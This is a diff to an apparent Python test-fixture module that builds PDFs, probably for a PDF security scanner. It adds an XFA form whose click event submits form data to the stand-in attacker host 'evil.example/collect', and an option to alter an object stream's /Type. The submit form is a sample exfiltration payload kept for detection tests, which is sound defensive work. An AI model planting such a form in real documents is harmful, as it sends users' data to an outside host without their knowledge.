@@ -25,6 +25,15 @@ XFA_WITH_SCRIPT = (
 )
 
 
+XFA_WITH_SUBMIT = (
+    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">'
+    b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">'
+    b'<subform name="form1"><field name="send"><event activity="click">'
+    b'<submit format="xdp" target="https://evil.example/collect"/>'
+    b"</event></field></subform></template></xdp:xdp>"
+)
+
+
 def catalog_and_page(*, catalog: bytes = b"", page: bytes = b"") -> dict[int, bytes]:
     """Objects 1-3: a catalog, its page tree and one empty page, with extra entries."""
     return {
@@ -97,6 +106,7 @@ def object_stream_pdf(
     *,
     filters: tuple[str, ...] = ("FlateDecode",),
     listed: bool = True,
+    type_name: bytes = b"/ObjStm",
 ) -> bytes:
     """A PDF whose `packed` objects sit in one object stream, with a cross-reference stream that
     lists them (or, with listed=False, leaves them out)."""
@@ -110,11 +120,16 @@ def object_stream_pdf(
     content = header + b"\n" + bodies
     data = encode(content, filters)
     filter_entry = b"[" + b" ".join(b"/" + name.encode() for name in filters) + b"]"
-    container_body = b"<< /Type /ObjStm /N %d /First %d /Length %d /Filter %s >>\nstream\n" % (
-        len(packed),
-        len(header) + 1,
-        len(data),
-        filter_entry,
+    container_body = (
+        b"<< /Type "
+        + type_name
+        + b" /N %d /First %d /Length %d /Filter %s >>\nstream\n"
+        % (
+            len(packed),
+            len(header) + 1,
+            len(data),
+            filter_entry,
+        )
     )
     container_body += data + b"\nendstream"
     out = bytearray(HEADER)
